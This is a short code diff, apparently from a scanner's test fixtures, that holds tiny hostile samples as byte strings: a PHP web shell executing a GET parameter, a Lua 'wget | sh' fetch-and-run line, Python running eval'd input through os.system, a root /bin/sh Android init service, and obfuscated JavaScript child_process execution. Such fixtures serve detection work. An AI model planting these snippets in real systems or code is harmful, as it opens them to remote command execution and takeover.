@@ -117,7 +117,7 @@ MADE = {
     "a.php": b"<?php $f = strrev('metsys'); $f($_GET['x']); eval(base64_decode('ZWNobyAxOw=='));\n",
     "a.lua": b"local s = string.char(112, 49)\nload(s)()\nos.execute('wget -qO- h | sh')\n",
     "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
-    "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n seclabel u:r:su:s0\n",
+    "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n user root\n",
     "hello.js": b"const {x: y} = require('child_process'); eval(atob('YWxlcnQoMSk=')); y(`a${1}`)",
 }
 
